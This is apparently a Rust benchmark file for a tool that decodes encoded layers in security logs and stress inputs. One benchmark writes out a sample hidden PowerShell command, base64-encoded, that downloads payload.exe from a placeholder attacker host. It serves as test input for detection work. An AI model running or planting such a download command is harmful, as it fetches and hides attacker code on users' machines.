//! How fast encoded layers are found: in text with nothing encoded in it, in the shared data, and in text full of layers.

use std::{fs, path::Path};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use divan::{Bencher, counter::BytesCount};
use extract::decode::{Options, decode};

const FILES: &[&str] = &[
    "AWS_Honeybucket_Logs.txt",
    "DeviceProcessEvents.ndjson",
    "SecurityEvent_processes.ndjson",
    "auditd_log.txt",
    "mordor_cache.json",
    "syslog_data.csv",
];

fn main() {
    divan::main();
}

fn bench(bencher: Bencher, text: &str) {
    bencher.counter(BytesCount::of_str(text)).bench(|| decode(divan::black_box(text), Options::default()));
}

#[divan::bench]
fn prose(bencher: Bencher) {
    bench(bencher, &"Nothing to be found in these words, however often one reads them. ".repeat(16 * 1024));
}

#[divan::bench(args = FILES)]
fn logs(bencher: Bencher, file: &str) {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data");
    bench(bencher, &fs::read_to_string(folder.join(file)).unwrap_or_default());
}

#[divan::bench]
fn encoded(bencher: Bencher) {
    let token = STANDARD.encode("Invoke-WebRequest http://evil.example.com/payload.exe -OutFile a.exe");
    bench(bencher, &format!("powershell -enc {token} -w hidden\n").repeat(1024));
}

#[divan::bench(args = ["A", "/", "a-", "%41", "\\x41", "AAAAAAAAAAAAAAAAAAAA\n", "0"])]
fn hostile(bencher: Bencher, unit: &str) {
    bench(bencher, &unit.repeat((1 << 20) / unit.len()));
}
